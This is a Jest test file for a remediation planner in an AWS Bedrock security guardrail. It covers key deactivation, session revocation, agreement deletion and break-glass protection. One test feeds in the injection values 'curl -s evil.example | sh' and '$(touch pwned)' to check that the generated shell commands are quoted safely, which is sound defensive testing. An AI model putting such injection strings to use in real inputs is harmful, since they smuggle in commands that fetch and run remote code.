import * as fs from "node:fs";
import * as path from "node:path";
import { BEDROCK_API_KEY_USER_PREFIX } from "../../src/arn/principal";
import { planRemediation } from "../../src/remediation/planner";
import type { PlannedAction } from "../../src/remediation/types";
import {
  findingOf,
  findingWithPrimaryRule,
  fixture,
  guardrailWith,
  IAM_USER_RECORD,
  IDENTITIES,
  MGMT,
  sample,
  withIdentity,
} from "./helpers";

const NOW = new Date("2026-11-20T09:20:00Z");
const ctx = { now: NOW, managementAccountId: MGMT };
const enforce = guardrailWith({ remediation: { mode: "enforce" } });
const summary = (plan: PlannedAction[]) => plan.map((a) => [a.api, a.target, a.disposition]);

describe("planRemediation per principal kind", () => {
  it("role session (real stratus sample): revoke older role sessions and delete the agreement", () => {
    const f = findingOf(enforce, sample("stratus__CreateFoundationModelAgreement"));
    const plan = planRemediation(f, enforce, ctx);
    expect(summary(plan)).toEqual([
      ["iam:PutRolePolicy", "test-role", "execute"],
      ["bedrock:DeleteFoundationModelAgreement", "anthropic.claude-3-sonnet-20240229-v1:0", "execute"],
    ]);
    // The cutoff is now + the 30 s margin.
    expect(plan[0].params).toMatchObject({ cutoff: "2026-11-20T09:20:30.000Z", eventTime: "2024-10-17T20:09:51Z" });
    expect(plan[1]).toMatchObject({ accountId: "494659789341", region: "megov-northeast-1r" });
    expect(plan.every((a) => a.findingId === "db9c43df-ae6f-4db3-8298-f5f779f74f4d")).toBe(true);
  });

  it("the use-case form (real sample) has no agreement to delete: sessions only", () => {
    const f = findingOf(enforce, sample("stratus__PutUseCaseForModelAccess"));
    expect(summary(planRemediation(f, enforce, ctx))).toEqual([["iam:PutRolePolicy", "test-role", "execute"]]);
  });

  it("PutFoundationModelEntitlement (real sample) never deletes an agreement it did not create", () => {
    const f = findingOf(enforce, sample("stratus__PutFoundationModelEntitlement"));
    expect(planRemediation(f, enforce, ctx).map((a) => a.kind)).toEqual(["revoke-role-sessions"]);
  });

  it("Identity Center role (real Panther sample): manual steps only", () => {
    const f = findingWithPrimaryRule(
      enforce,
      sample("panther_DeleteModelInvocationLoggingConfiguration"),
      "PutUseCaseForModelAccess",
    );
    expect(f.guardrail.principal_kind).toBe("identity-center-role");
    const plan = planRemediation(f, enforce, ctx);
    expect(summary(plan)).toEqual([
      ["manual", "arn:aws:iam::123123123123:role/aws-reserved/sso.amazonaws.com/us-west-2/DevAdmin", "manual"],
    ]);
    expect(plan[0].steps!.join(" ")).toMatch(/identitystore:userId/);
  });

  it("IAM user with a long-term key: deactivate that key, deny older sessions, delete the agreement", () => {
    const f = findingOf(enforce, fixture(IAM_USER_RECORD));
    const plan = planRemediation(f, enforce, ctx);
    expect(summary(plan)).toEqual([
      ["iam:UpdateAccessKey", "AKIAEXAMPLEKEY000001", "execute"],
      ["iam:PutUserPolicy", "deploy-bot", "execute"],
      ["bedrock:DeleteFoundationModelAgreement", "anthropic.claude-3-sonnet-20240229-v1:0", "execute"],
    ]);
    expect(plan[0].params).toEqual({ userName: "deploy-bot", accessKeyId: "AKIAEXAMPLEKEY000001" });
  });

  it("rotate mode: contain first (deactivate, revoke, agreement), rotate last, readable only by the readers", () => {
    const reader = "arn:aws:iam::111122223333:role/IncidentResponder";
    const g = guardrailWith({ remediation: { mode: "enforce", accessKey: "rotate", rotatedSecretReaders: [reader] } });
    const plan = planRemediation(findingOf(g, fixture(IAM_USER_RECORD)), g, ctx);
    expect(plan.map((a) => a.kind)).toEqual([
      "deactivate-key",
      "revoke-user-sessions",
      "delete-agreement",
      "rotate-key",
    ]);
    expect(plan[3].params).toMatchObject({
      secretName: "bedrock-guardrail/rotated-keys/222233334444/deploy-bot/AKIAEXAMPLEKEY000001",
      secretReaders: [reader],
    });
  });

  it("rotate mode: default readers are the tool's roles in the security account and the operators", () => {
    const operator = "arn:aws:iam::111122223333:role/Responder";
    const g = guardrailWith({
      aws: { security: { accountId: "444455556666" } },
      remediation: { mode: "enforce", accessKey: "rotate", operatorPrincipalArns: [operator] },
    } as never);
    const rotate = planRemediation(findingOf(g, fixture(IAM_USER_RECORD)), g, ctx).find((a) => a.kind === "rotate-key");
    expect(rotate!.params.secretReaders).toEqual([
      "arn:aws:iam::444455556666:role/bedrock-guardrail/bedrock-guardrail-*",
      operator,
    ]);
  });

  it("rotate mode: the security account named only by the role Terraform assumes there counts the same", () => {
    const g = guardrailWith({
      aws: { security: { assumeRoleArn: "arn:aws:iam::444455556666:role/Deployer" } },
      remediation: { mode: "enforce", accessKey: "rotate" },
    } as never);
    const rotate = planRemediation(findingOf(g, fixture(IAM_USER_RECORD)), g, ctx).find((a) => a.kind === "rotate-key");
    expect(rotate!.params.secretReaders).toEqual([
      "arn:aws:iam::444455556666:role/bedrock-guardrail/bedrock-guardrail-*",
    ]);
  });

  it("rotate mode without anyone to read the secret: no rotation, a manual step says why", () => {
    const g = guardrailWith({ remediation: { mode: "enforce", accessKey: "rotate" } });
    const plan = planRemediation(findingOf(g, fixture(IAM_USER_RECORD)), g, ctx);
    expect(plan.map((a) => a.kind)).toEqual(["deactivate-key", "manual", "revoke-user-sessions", "delete-agreement"]);
    expect(plan[1].reason).toMatch(/rotatedSecretReaders/);
    expect(plan[1].steps!.join(" ")).toMatch(/^Create a replacement access key for \S+ by hand if it is needed/);
  });

  it("a Bedrock API key's IAM user: its key is deactivated, none minted (rotate), and a step says delete it", () => {
    const reader = "arn:aws:iam::111122223333:role/IncidentResponder";
    const record = fixture(IAM_USER_RECORD);
    const identity = record.userIdentity as Record<string, string>;
    const hiddenUser = `${BEDROCK_API_KEY_USER_PREFIX}q7r3`;
    const userIdentity = { ...identity, arn: `arn:aws:iam::222233334444:user/${hiddenUser}`, userName: hiddenUser };
    for (const accessKey of ["rotate", "deactivate"] as const) {
      const g = guardrailWith({ remediation: { mode: "enforce", accessKey, rotatedSecretReaders: [reader] } });
      const plan = planRemediation(findingOf(g, { ...record, userIdentity }), g, ctx);
      const kinds = ["deactivate-key", "manual", "revoke-user-sessions", "delete-agreement"];
      expect({ accessKey, kinds: plan.map((a) => a.kind) }).toEqual({ accessKey, kinds });
      expect(plan[0].params).toEqual({ userName: hiddenUser, accessKeyId: "AKIAEXAMPLEKEY000001" });
      expect(plan[1].steps!.join(" ")).toMatch(/needs no access key\. Delete AKIAEXAMPLEKEY000001/);
    }
  });

  it("the API key user's name prefix is the one its access-key rule matches", () => {
    const rule = JSON.parse(
      fs.readFileSync(
        path.join(__dirname, "..", "..", "policies", "rules", "bedrock-api-key-user-access-key-created.json"),
        "utf8",
      ),
    );
    expect(rule.where).toEqual([
      { field: "requestParameters.userName", startsWith: BEDROCK_API_KEY_USER_PREFIX, ignoreCase: true },
    ]);
  });

  it("long-term Bedrock API key: deactivate the user's Bedrock credentials, nothing else", () => {
    const f = findingWithPrimaryRule(
      enforce,
      fixture("respond_bearer-long-term-mantle-CreateFineTuningJob"),
      "PutUseCaseForModelAccess",
    );
    const plan = planRemediation(f, enforce, ctx);
    expect(summary(plan)).toEqual([["iam:UpdateServiceSpecificCredential", "BedrockAPIKey_EXAMPLE", "execute"]]);
    expect(plan[0].params).toEqual({ userName: "BedrockAPIKey_EXAMPLE", serviceName: "bedrock.amazonaws.com" });
    expect(plan[0].reason).toMatch(/every Bedrock API key/);
  });

  it("long-term Bedrock API key whose id is in the record: only that credential", () => {
    const record = fixture("respond_bearer-long-term-mantle-CreateFineTuningJob");
    const ui = { ...(record.userIdentity as object), accessKeyId: "ACCAEXAMPLE000000001" };
    const f = findingWithPrimaryRule(enforce, { ...record, userIdentity: ui }, "PutUseCaseForModelAccess");
    const plan = planRemediation(f, enforce, ctx);
    expect(summary(plan)).toEqual([["iam:UpdateServiceSpecificCredential", "ACCAEXAMPLE000000001", "execute"]]);
    expect(plan[0].params).toMatchObject({ serviceSpecificCredentialId: "ACCAEXAMPLE000000001" });
  });

  it("short-term Bedrock API key signed by a role: revoke that role's sessions", () => {
    const f = findingOf(enforce, fixture("respond_bearer-short-term-CreateFoundationModelAgreement"));
    expect(summary(planRemediation(f, enforce, ctx))).toEqual([
      ["iam:PutRolePolicy", "dev-role", "execute"],
      ["bedrock:DeleteFoundationModelAgreement", "anthropic.claude-3-sonnet-20240229-v1:0", "execute"],
    ]);
  });

  it("short-term Bedrock API key signed by an IAM user's access key: that key, and older sessions", () => {
    const f = findingOf(
      enforce,
      withIdentity(IDENTITIES.iamUserKey, {
        additionalEventData: { callWithBearerToken: true, bearerTokenType: "SHORT_TERM" },
      }),
    );
    expect(f.guardrail.credential_kind).toBe("bedrock-api-key-short-term");
    expect(planRemediation(f, enforce, ctx).map((a) => a.kind)).toEqual([
      "deactivate-key",
      "revoke-user-sessions",
      "delete-agreement",
    ]);
  });

  it("Bedrock API key of unknown type, signed by an access key: every API key, and the line says why", () => {
    const f = findingOf(
      enforce,
      withIdentity(IDENTITIES.iamUserKey, { additionalEventData: { callWithBearerToken: true } }),
    );
    expect(f.guardrail.credential_kind).toBe("bedrock-api-key");
    const [every] = planRemediation(f, enforce, ctx);
    expect(every).toMatchObject({ kind: "deactivate-service-credentials", target: "alice" });
    expect(every.reason).toContain(
      "the record names key AKIAEXAMPLEALICE0001, which is no Bedrock API key id (ACCA...), so not which one made " +
        "the call",
    );
  });

  it("Identity Center user: manual steps that name the user and the identity store", () => {
    const f = findingWithPrimaryRule(enforce, fixture("respond_identity-center-user-PutUseCaseForModelAccess"));
    const plan = planRemediation(f, enforce, ctx);
    expect(plan.every((a) => a.kind === "manual" || a.kind === "none")).toBe(true);
    const text = plan.flatMap((a) => [a.reason, ...(a.steps ?? [])]).join(" ");
    expect(text).toContain("544894e8-80c1-707f-60e3-3ba6510dfac1");
  });

  it("IAM user with a session token: deny older sessions, and manual steps for the key that minted it", () => {
    const f = findingOf(enforce, withIdentity(IDENTITIES.iamUserSession));
    expect(planRemediation(f, enforce, ctx).map((a) => [a.kind, a.disposition])).toEqual([
      ["manual", "manual"],
      ["revoke-user-sessions", "execute"],
      ["delete-agreement", "execute"],
    ]);
  });

  const { accessKeyId: _key, ...iamUserWithoutKey } = IDENTITIES.iamUserKey;
  const shortTerm = { additionalEventData: { callWithBearerToken: true, bearerTokenType: "SHORT_TERM" } };
  it.each([
    ["session token", IDENTITIES.iamUserSession, {}, /long-term access key of \S+ that minted session ASIA/],
    ["no access key (console sign-in)", iamUserWithoutKey, {}, /password/],
    ["short-term Bedrock API key with no signing key", iamUserWithoutKey, shortTerm, /short-term Bedrock API key/],
  ])("IAM user with %s: the manual step says what to do for that case", (_, identity, extra, step) => {
    const f = findingOf(enforce, withIdentity(identity, extra));
    const [manual] = planRemediation(f, enforce, ctx).filter((a) => a.kind === "manual");
    const steps = manual.steps!.join(" ");
    expect(steps).toMatch(step);
    if (identity !== IDENTITIES.iamUserSession) expect(steps).not.toMatch(/minted session/);
  });

  it.each([
    ["root", IDENTITIES.root, /The root user of account/],
    ["service-linked role", IDENTITIES.serviceLinked, /service-linked/],
    ["AWS service", IDENTITIES.awsService, /AWS service/],
    ["federated user", IDENTITIES.federated, /GetFederationToken/],
    ["role without sessionIssuer", IDENTITIES.roleWithoutIssuer, /Revoke sessions/],
  ])("%s: no IAM action, manual steps", (_, identity, step) => {
    const plan = planRemediation(
      findingOf(enforce, withIdentity(identity as unknown as Record<string, unknown>)),
      enforce,
      ctx,
    );
    const principalActions = plan.filter((a) => a.kind !== "delete-agreement");
    expect(principalActions.map((a) => a.kind)).toEqual(["manual"]);
    expect(principalActions[0].steps!.join(" ")).toMatch(step);
  });

  it("approved principal: nothing at all, not even the agreement", () => {
    const plan = planRemediation(
      findingOf(enforce, withIdentity(IDENTITIES.approvedRole as unknown as Record<string, unknown>)),
      enforce,
      ctx,
    );
    expect(summary(plan)).toEqual([["none", "arn:aws:iam::494659789341:role/BedrockModelAccessAdmin", "none"]]);
    expect(plan[0].reason).toMatch(/approved/);
  });

  it("denied attempt: nothing to undo", () => {
    const f = findingOf(enforce, { ...sample("stratus__CreateFoundationModelAgreement"), errorCode: "AccessDenied" });
    expect(planRemediation(f, enforce, ctx).map((a) => a.kind)).toEqual(["none"]);
  });

  it("management account principal: every mutation becomes alert-only", () => {
    const g = guardrailWith({
      remediation: { mode: "enforce" },
      organization: { managementAccountId: "494659789341" },
    });
    const plan = planRemediation(findingOf(g, sample("stratus__CreateFoundationModelAgreement")), g, {
      now: NOW,
      managementAccountId: "494659789341",
    });
    expect(plan.map((a) => a.disposition)).toEqual(["alert-only", "alert-only"]);
    expect(plan[0].reason).toMatch(/management account is never remediated/);
  });

  it("unknown management account: nothing executes", () => {
    const plan = planRemediation(findingOf(enforce, sample("stratus__CreateFoundationModelAgreement")), enforce, {
      now: NOW,
    });
    expect(plan.map((a) => a.disposition)).toEqual(["alert-only", "alert-only"]);
  });

  it("modes: dry-run by default, off, and per-account modes", () => {
    const dry = guardrailWith();
    const f = findingOf(dry, sample("stratus__CreateFoundationModelAgreement"));
    expect(planRemediation(f, dry, ctx).map((a) => a.disposition)).toEqual(["dry-run", "dry-run"]);
    expect(planRemediation(f, dry, { ...ctx, modes: { "494659789341": "off" } }).map((a) => a.disposition)).toEqual([
      "off",
      "off",
    ]);
    expect(planRemediation(f, dry, { ...ctx, modes: { "494659789341": "enforce" } }).map((a) => a.disposition)).toEqual(
      ["execute", "execute"],
    );
  });

  it("caps: beyond the budget, alert only", () => {
    const f = findingOf(enforce, fixture(IAM_USER_RECORD));
    const plan = planRemediation(f, enforce, { ...ctx, budget: { run: 20, principal: 1 } });
    expect(plan.map((a) => a.disposition)).toEqual(["execute", "alert-only", "alert-only"]);
    expect(plan[1].reason).toMatch(/maxActionsPerPrincipalPerHour reached/);
  });

  it("regions: an agreement outside remediation.regions is left to a person", () => {
    const g = guardrailWith({ remediation: { mode: "enforce", regions: ["us-west-2"] } });
    const plan = planRemediation(findingOf(g, fixture(IAM_USER_RECORD)), g, ctx);
    expect(plan.at(-1)).toMatchObject({ kind: "manual", disposition: "manual" });
  });

  it("a command in a manual step takes each value of the record as one shell word, and names the region", () => {
    const g = guardrailWith({ remediation: { mode: "enforce", regions: ["us-west-2"] } });
    const record = fixture(IAM_USER_RECORD);
    const f = findingOf(g, {
      ...record,
      requestParameters: { modelId: "anthropic.claude-v2; curl -s evil.example | sh" },
    });
    const region = f.cloud.region;
    expect(planRemediation(f, g, ctx).at(-1)!.steps).toEqual([
      `In account ${f.cloud.account.id}, region ${region}: aws bedrock delete-foundation-model-agreement ` +
        `--region ${region} --model-id 'anthropic.claude-v2; curl -s evil.example | sh'`,
    ]);
    const identityCenter = findingOf(
      g,
      withIdentity({
        type: "IdentityCenterUser",
        accountId: "494659789341",
        onBehalfOf: {
          userId: "u-1$(touch pwned)'",
          identityStoreArn: "arn:aws:identitystore::494659789341:identitystore/d-9067642ac7",
        },
      }),
    );
    const steps = planRemediation(identityCenter, g, ctx)[0].steps!.join("\n");
    expect(steps).toContain(`--user-id 'u-1$(touch pwned)'\\'''.`);
  });

  it("the same finding planned twice gets the same action ids", () => {
    const f = findingOf(enforce, fixture(IAM_USER_RECORD));
    const a = planRemediation(f, enforce, ctx).map((x) => x.actionId);
    const b = planRemediation(f, enforce, { ...ctx, now: new Date("2026-11-21T00:00:00Z") }).map((x) => x.actionId);
    expect(a).toEqual(b);
    expect(new Set(a).size).toBe(a.length);
  });
});

describe("planRemediation of a forged finding (break-glass is arn:aws:iam::*:role/BreakGlass)", () => {
  const forged = (principalArn: string, principalAccountId = "494659789341") => {
    const f = findingOf(enforce, sample("stratus__CreateFoundationModelAgreement"));
    return {
      ...f,
      guardrail: { ...f.guardrail, principal_arn: principalArn, principal_account_id: principalAccountId },
    };
  };
  it.each([
    ["arn:aws-cn:iam::494659789341:role/BreakGlass", "is in partition aws-cn, not the configured aws"],
    ["arn:aws:sts::494659789341:role/BreakGlass", "is not an IAM role"],
    ["arn:aws:iam::210987654321:role/test-role", "names account 210987654321, but the principal's account is 4946"],
  ])("%s: manual steps only, nothing acted on", (arn, why) => {
    const plan = planRemediation(forged(arn), enforce, ctx);
    expect(summary(plan)).toEqual([
      ["manual", expect.any(String), "manual"],
      ["bedrock:DeleteFoundationModelAgreement", "anthropic.claude-3-sonnet-20240229-v1:0", "alert-only"],
    ]);
    expect(plan[0].reason).toContain(`principal ARN ${arn} ${why}`);
  });

  it("a path in front of the break-glass name: RoleName BreakGlass is the break-glass role, never acted on", () => {
    const plan = planRemediation(forged("arn:aws:iam::494659789341:role/x/BreakGlass"), enforce, ctx);
    expect(summary(plan)).toEqual([["none", "arn:aws:iam::494659789341:role/x/BreakGlass", "none"]]);
    expect(plan[0].reason).toMatch(/break-glass .*its name at another path.*reads no real ARN/);
  });

  it("with the real ARN checked before each call, a protected name on another path is left to that check", () => {
    const plan = planRemediation(forged("arn:aws:iam::494659789341:role/x/BreakGlass"), enforce, {
      ...ctx,
      realArnChecked: true,
    });
    expect(summary(plan)).toEqual([
      ["iam:PutRolePolicy", "BreakGlass", "execute"],
      ["bedrock:DeleteFoundationModelAgreement", "anthropic.claude-3-sonnet-20240229-v1:0", "execute"],
    ]);
    expect(plan[0].reason).toContain("the real ARN is read before the call and decides");
    // The ARN as given is still matched exactly: the break-glass role itself is never planned for.
    const real = planRemediation(forged("arn:aws:iam::494659789341:role/BreakGlass"), enforce, {
      ...ctx,
      realArnChecked: true,
    });
    expect(summary(real)).toEqual([["none", "arn:aws:iam::494659789341:role/BreakGlass", "none"]]);
  });
});
